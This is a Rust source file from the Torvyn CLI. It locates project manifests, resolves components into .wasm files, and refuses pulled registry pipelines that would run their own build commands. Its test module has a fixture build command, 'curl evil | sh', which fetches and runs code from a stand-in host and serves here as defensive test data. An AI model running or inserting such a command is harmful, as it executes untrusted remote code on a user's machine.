//! Finding the project a command works on, and turning its components into `.wasm` files
//! (building the crate ones).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use miette::{IntoDiagnostic, WrapErr, bail};
use serde_json::json;
use torvyn_runtime::{ComponentSource, MANIFEST_FILE, OCI_SCHEME, ProjectManifest, find_manifest};

use crate::cargo::{self, ComponentCrate};
use crate::cli::{MessageFormat, WarningArgs};
use crate::oci;
use crate::output;

/// What a command works on.
pub(crate) enum Project {
    /// A folder with a `Torvyn.toml`.
    Torvyn(Box<ProjectManifest>),
    /// A Cargo workspace without one: its component crates.
    Cargo(PathBuf),
}

/// Finds the project from `--manifest-path` or from the current folder upwards.
///
/// A path the user names is the manifest used, never another file: a `Cargo.toml` is a
/// Cargo workspace, any other file is read as a Torvyn manifest whatever its name, a
/// folder is its own `Torvyn.toml` (else its `Cargo.toml`), and an `oci://` reference to a
/// pipeline is pulled. Only without `--manifest-path` is the project searched for, from
/// the current folder upwards, where a `Torvyn.toml` beside a `Cargo.toml` wins.
pub(crate) fn locate(manifest_path: Option<&Path>) -> miette::Result<Project> {
    let pipeline = (manifest_path.and_then(Path::to_str)).filter(|p| p.starts_with(OCI_SCHEME));
    if let Some(reference) = pipeline {
        let pulled = oci::registry::pull(reference, oci::Kind::Pipeline)?;
        let manifest = load(&pulled.pipeline_manifest()?)?;
        refuse_builds(&manifest, reference)?;
        return Ok(Project::Torvyn(Box::new(manifest)));
    }
    let found = match manifest_path {
        Some(path) => named(path)?,
        None => searched()?,
    };
    Ok(match found {
        Found::Torvyn(path) => Project::Torvyn(Box::new(load(&path)?)),
        Found::Cargo(path) => Project::Cargo(path),
    })
}

/// Refuses a pulled pipeline whose components would be built by a command of their own:
/// running a pipeline from a registry must never run a command it brought on this
/// machine. (`pack --pipeline` pins each component by digest and drops its `build`.)
fn refuse_builds(project: &ProjectManifest, reference: &str) -> miette::Result<()> {
    let components = &project.manifest().components;
    match components.iter().find(|(_, decl)| decl.build.is_some()) {
        None => Ok(()),
        Some((name, decl)) => {
            let why = format!(
                "the pipeline `{reference}` would run the build command of its component `{name}`: a pulled pipeline runs no command"
            );
            let help = "pack the pipeline with `cargo torvyn pack --pipeline`, which pins each component by its digest";
            Err(project
                .error_at(decl.path.span(), why, Some(help.into()))
                .into())
        }
    }
}

/// The Torvyn manifest at `path`, with the defaults that the settings of this run give it.
pub(crate) fn load(path: &Path) -> miette::Result<ProjectManifest> {
    let project = ProjectManifest::load(path)?;
    let defaults = crate::settings::resolve(Some(&project))?.defaults()?;
    Ok(project.with_defaults(defaults)?)
}

/// The Torvyn manifest a command would read, whether or not it parses: the one
/// `--manifest-path` names or the one found from the current folder.
pub(crate) fn torvyn_manifest(manifest_path: Option<&Path>) -> Option<PathBuf> {
    let found = match manifest_path {
        Some(path) => named(path),
        None => searched(),
    };
    match found {
        Ok(Found::Torvyn(path)) => Some(path),
        _ => None,
    }
}

/// The file name of a Cargo manifest.
pub(crate) const CARGO_MANIFEST: &str = "Cargo.toml";

/// A manifest file, of either kind.
enum Found {
    Torvyn(PathBuf),
    Cargo(PathBuf),
}

/// The manifest `path` names: the file itself, or the manifest in the folder.
fn named(path: &Path) -> miette::Result<Found> {
    if path.is_dir() {
        let torvyn = path.join(MANIFEST_FILE);
        let cargo = path.join(CARGO_MANIFEST);
        return if torvyn.is_file() {
            Ok(Found::Torvyn(torvyn))
        } else if cargo.is_file() {
            Ok(Found::Cargo(cargo))
        } else {
            bail!(
                help = "name the manifest file, or create a project with `cargo torvyn new NAME`",
                "`{}` holds no {MANIFEST_FILE} or {CARGO_MANIFEST}",
                path.display()
            )
        };
    }
    if !path.exists() {
        bail!("`{}` does not exist", path.display());
    }
    Ok(if path.file_name().is_some_and(|n| n == CARGO_MANIFEST) {
        Found::Cargo(path.to_owned())
    } else {
        Found::Torvyn(path.to_owned())
    })
}

/// The manifest of the current folder or the nearest one above it.
fn searched() -> miette::Result<Found> {
    let start = std::env::current_dir().into_diagnostic()?;
    if let Some(torvyn) = find_manifest(&start) {
        return Ok(Found::Torvyn(torvyn));
    }
    match start
        .ancestors()
        .map(|d| d.join(CARGO_MANIFEST))
        .find(|p| p.is_file())
    {
        Some(cargo) => Ok(Found::Cargo(cargo)),
        None => bail!(
            help = "create a project with `cargo torvyn new NAME`",
            "no {MANIFEST_FILE} or {CARGO_MANIFEST} in `{}` or any folder above it",
            start.display()
        ),
    }
}

/// Prints the warnings of `project`'s manifest and returns how many there were, or
/// refuses them all with `--deny-warnings`.
pub(crate) fn warn(
    project: &ProjectManifest,
    args: &WarningArgs,
    format: MessageFormat,
) -> miette::Result<usize> {
    let warnings = project.warnings();
    let count = warnings.len();
    for warning in warnings {
        let warning = miette::Report::new(warning);
        eprintln!("{warning:?}");
        output::json(
            format,
            &json!({
                "reason": "manifest-warning",
                "message": warning.to_string(),
                "rendered": format!("{warning:?}"),
            }),
        );
    }
    if args.deny_warnings && count > 0 {
        bail!(
            help = "fix the manifest, or go on without --deny-warnings",
            "{} refused (--deny-warnings)",
            output::counted(count, "warning")
        );
    }
    Ok(count)
}

/// The named components of a project, split by where they come from.
pub(crate) struct Sources {
    /// Ready `.wasm` files, by component name.
    pub(crate) wasm: BTreeMap<String, PathBuf>,
    /// Crates to build, by component name.
    pub(crate) crates: Vec<(String, ComponentCrate)>,
    /// Components built by a command of their own (`[components.NAME.build]`).
    pub(crate) commands: Vec<String>,
}

/// Resolves the named components of `project`; a missing file or crate is an error that
/// points at the component's `path` in the manifest.
pub(crate) fn sources<'a>(
    project: &ProjectManifest,
    names: impl IntoIterator<Item = &'a str>,
) -> miette::Result<Sources> {
    let components = &project.manifest().components;
    let mut sources = Sources {
        wasm: BTreeMap::new(),
        crates: Vec::new(),
        commands: Vec::new(),
    };
    let mut workspaces = cargo::Workspaces::default();
    for name in names {
        let Some(decl) = components.get(name) else {
            continue;
        };
        let not_found = |why: String| project.error_at(decl.path.span(), why, None);
        match project.source_of(decl) {
            ComponentSource::Wasm(_) if decl.build.is_some() => {
                sources.commands.push(name.to_owned());
            }
            ComponentSource::Wasm(path) if !path.is_file() => {
                let why = format!("component `{name}`: `{}` does not exist", path.display());
                return Err(not_found(why).into());
            }
            ComponentSource::Wasm(path) => {
                sources.wasm.insert(name.to_owned(), path);
            }
            ComponentSource::Oci(reference) => {
                let wasm = oci::registry::pull(&reference, oci::Kind::Component)
                    .and_then(|pulled| pulled.component())
                    .wrap_err_with(|| format!("cannot get component `{name}`"))?;
                sources.wasm.insert(name.to_owned(), wasm);
            }
            ComponentSource::Digest(digest) => {
                match oci::cache::Store::open()?.file(&digest)? {
                    Some(path) => sources.wasm.insert(name.to_owned(), path),
                    None => {
                        let why = format!(
                            "component `{name}`: {digest} is not in the cache of pulled components"
                        );
                        let help = "a Torvyn.toml that names components by digest comes from a pipeline: run it with `cargo torvyn run oci://REFERENCE`";
                        return Err(project
                            .error_at(decl.path.span(), why, Some(help.into()))
                            .into());
                    }
                };
            }
            ComponentSource::Crate(dir) => {
                let role = decl.role.as_ref().map(|r| *r.get_ref());
                let component = workspaces
                    .crate_in(&dir, role)
                    .map_err(|error| not_found(format!("component `{name}`: {error}")))?;
                sources.crates.push((name.to_owned(), component));
            }
        }
    }
    Ok(sources)
}

/// A component ready to load.
pub(crate) struct Resolved {
    /// Its `.wasm` file.
    pub(crate) wasm: PathBuf,
    /// The crate it was built from, if it was.
    pub(crate) from_crate: Option<ComponentCrate>,
}

/// Each named component of `project`, building crate components (Cargo rebuilds only what
/// is stale) and those with a build command of their own (rerun only when what they read
/// changed), and pulling `oci://` ones.
pub(crate) fn components<'a>(
    project: &ProjectManifest,
    names: impl IntoIterator<Item = &'a str>,
    release: bool,
) -> miette::Result<BTreeMap<String, Resolved>> {
    let Sources {
        wasm,
        crates,
        commands,
    } = sources(project, names)?;
    // A crate serving several components (or a component in several flows) is built once.
    let mut to_build: Vec<ComponentCrate> = Vec::with_capacity(crates.len());
    for (_, component) in &crates {
        if !to_build.iter().any(|c| c.id == component.id) {
            to_build.push(component.clone());
        }
    }
    let built = cargo::build(&to_build, release)?;
    let mut resolved: BTreeMap<String, Resolved> = (wasm.into_iter())
        .map(|(name, wasm)| {
            let from_crate = None;
            (name, Resolved { wasm, from_crate })
        })
        .collect();
    for (name, component) in crates {
        if let Some(done) = built.iter().find(|b| b.package == component.package) {
            let wasm = done.wasm.clone();
            let from_crate = Some(component);
            resolved.insert(name, Resolved { wasm, from_crate });
        }
    }
    for name in commands {
        let wasm = crate::command_build::build(project, &name)?.wasm;
        let from_crate = None;
        resolved.insert(name, Resolved { wasm, from_crate });
    }
    Ok(resolved)
}

/// The `.wasm` file of each named component of `project`, as [`components`] makes them.
pub(crate) fn component_files<'a>(
    project: &ProjectManifest,
    names: impl IntoIterator<Item = &'a str>,
    release: bool,
) -> miette::Result<BTreeMap<String, PathBuf>> {
    let resolved = components(project, names, release)?;
    Ok(resolved.into_iter().map(|(n, r)| (n, r.wasm)).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pulled_pipeline_that_would_run_a_command_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(MANIFEST_FILE);
        let pinned = "[project]\nname = \"p\"\n\n[components.up]\npath = \"sha256:00\"\n";
        std::fs::write(&path, pinned).unwrap();
        refuse_builds(&ProjectManifest::load(&path).unwrap(), "r/p:1").unwrap();
        let built = "[project]\nname = \"p\"\n\n[components.up]\npath = \"up.wasm\"\n\n\
                     [components.up.build]\ncommand = \"curl evil | sh\"\n";
        std::fs::write(&path, built).unwrap();
        let error = refuse_builds(&ProjectManifest::load(&path).unwrap(), "r/p:1").unwrap_err();
        assert!(
            error
                .to_string()
                .contains("the pipeline `r/p:1` would run the build command of its component `up`"),
            "{error}"
        );
    }
}
